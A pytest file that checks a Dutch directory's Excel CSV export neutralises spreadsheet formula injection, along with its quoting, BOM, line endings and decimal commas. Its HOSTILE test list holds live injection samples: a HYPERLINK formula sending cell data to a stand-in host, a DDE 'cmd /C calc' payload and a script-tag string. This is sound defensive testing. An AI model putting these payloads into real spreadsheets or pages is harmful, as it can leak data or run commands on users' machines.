"""The Excel export: Dutch Excel opens it, and no cell can run as a formula (OWASP CSV injection)."""

from __future__ import annotations

import codecs
import csv
import io

import pytest

from directory import Directory, Organisation, load_directory
from directory.csvfile import parse
from directory.export import excel_csv, neutralise
from directory.model import Theme
from directory.schema import to_cells, validate_rows
from tests.conftest import DATA

THEMES = (Theme("voedsel", "Eten"),)


def org(**overrides) -> Organisation:
    values = {
        "id": "voedselbank",
        "naam": "Voedselbank",
        "domein": "ondersteuning",
        "omschrijving": "Geeft pakketten.",
        "themas": ("voedsel",),
        "aanmelden": "Bellen.",
    }
    return Organisation(**{**values, **overrides})


def directory_of(*organisations: Organisation, columns: tuple[str, ...] = ("id", "naam", "notitie")) -> Directory:
    return Directory(organisations=organisations, themes=THEMES, columns=columns, version="test")


def records(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


# value in the list -> the cell as it stands in the file, between its double quotes
HOSTILE = [
    ('=HYPERLINK("http://x.example/?"&A1;"klik")', '\'=HYPERLINK(""http://x.example/?""&A1;""klik"")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-1+1", "'-1+1"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("\0=1", "'\0=1"),
    ("  =1+1", "'  =1+1"),
    ("\n@SUM(1)", "'\n@SUM(1)"),
    ("\u00a0-2", "'\u00a0-2"),
    ("+31 33 123 4567", "'+31 33 123 4567"),
    ("0331234567", "'0331234567"),
    ("a;b", "a;b"),
    ('zeg "hoi"', 'zeg ""hoi""'),
    ("regel 1\nregel 2", "regel 1\nregel 2"),
    ("regel 1\r\n=regel 2", "regel 1\r\n=regel 2"),  # only the start of a cell counts
    ("14 033", "14 033"),
    ("'al tekst", "'al tekst"),
    ("a=b", "a=b"),
    ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("Cliëntenraad €5 👍", "Cliëntenraad €5 👍"),
    ("", ""),
]


@pytest.mark.parametrize(("value", "in_file"), HOSTILE)
def test_hostile_cells_are_written_exactly_as_text(value, in_file):
    data = excel_csv(directory_of(org(extra={"notitie": value})))
    expected = (
        '"id";"naam";"notitie";"domein";"omschrijving";"themas";"aanmelden";"actief"\r\n'
        f'"voedselbank";"Voedselbank";"{in_file}";"ondersteuning";"Geeft pakketten.";"voedsel";"Bellen.";"ja"\r\n'
    )
    assert data == codecs.BOM_UTF8 + expected.encode("utf-8")


@pytest.mark.parametrize(("value", "in_file"), HOSTILE)
def test_reading_back_gives_the_neutralised_value(value, in_file):
    data = excel_csv(directory_of(org(extra={"notitie": value})))
    header, row = records(data)
    assert row[header.index("notitie")] == in_file.replace('""', '"') == neutralise(value)


@pytest.mark.parametrize(
    ("value", "neutralised"),
    [
        *[("=1", True), ("+1", True), ("-1", True), ("@a", True), ("\t", True), ("\r", True), ("\0", True)],
        *[(" =1", True), ("\n\n+1", True), ("00", True), ("0", False), ("10", False), ("0a", False)],
        *[("", False), (" ", False), ("1-1", False), ("'=1", False), ("\u2212 1", False)],
    ],
)
def test_which_cells_get_the_text_marker(value, neutralised):
    assert (neutralise(value) == "'" + value) is neutralised
    assert neutralise(value) in (value, "'" + value)


def test_hostile_names_of_columns_and_known_columns_are_neutralised_too():
    directory = directory_of(
        org(naam="=1+1", omschrijving="-- let op", telefoon="+31 33 123 4567", extra={"=kolom": "@x"}),
        columns=("id", "naam", "=kolom", "omschrijving", "telefoon"),
    )
    header, row = records(excel_csv(directory))
    cells = dict(zip(header, row, strict=True))
    assert cells["'=kolom"] == "'@x"
    assert cells["naam"] == "'=1+1"
    assert cells["omschrijving"] == "'-- let op"
    assert cells["telefoon"] == "'+31 33 123 4567"


def test_every_cell_is_quoted_and_lines_end_in_crlf():
    data = excel_csv(directory_of(org(), org(id="twee", naam="Twee")))
    text = data.decode("utf-8-sig")
    lines = text.split("\r\n")
    assert lines[-1] == "" and len(lines) == 4
    assert all(cell.startswith('"') and cell.endswith('"') for line in lines[:-1] for cell in line.split(";"))


def test_coordinates_have_a_decimal_comma_for_dutch_excel():
    header, row = records(excel_csv(directory_of(org(lat=52.15672, lon=5.384))))
    cells = dict(zip(header, row, strict=True))
    assert (cells["lat"], cells["lon"]) == ("52,15672", "5,384")


def test_archived_organisations_and_row_order_are_kept():
    organisations = (org(id="zeta"), org(id="alfa", actief=False), org(id="midden"))
    _, *rows = records(excel_csv(directory_of(*organisations)))
    assert [r[0] for r in rows] == ["zeta", "alfa", "midden"]
    assert rows[1][-1] == "nee"


def test_the_bundled_list_has_bom_all_columns_and_every_row():
    directory = load_directory(DATA)
    data = excel_csv(directory)
    assert data.startswith(codecs.BOM_UTF8)
    assert data.count(b"\n") == data.count(b"\r\n") == len(directory.organisations) + 1
    header, *rows = records(data)
    assert header == list(directory.columns)
    assert [r[0] for r in rows] == [o.id for o in directory.organisations]
    assert rows[0][header.index("bronnen")] == directory.organisations[0].extra["bronnen"]


def test_vangnet_itself_reads_the_export_of_the_bundled_list_back():
    # Not what the export is for, but it shows the dialect is one Excel users already send us.
    directory = load_directory(DATA)
    table = parse(excel_csv(directory))
    assert (table.dialect.delimiter, table.dialect.bom, table.dialect.newline) == (";", True, "\r\n")
    result = validate_rows(table.header, table.rows, directory.themes)
    assert not result.problems
    assert [to_cells(o) for o in result.organisations] == [to_cells(o) for o in directory.organisations]
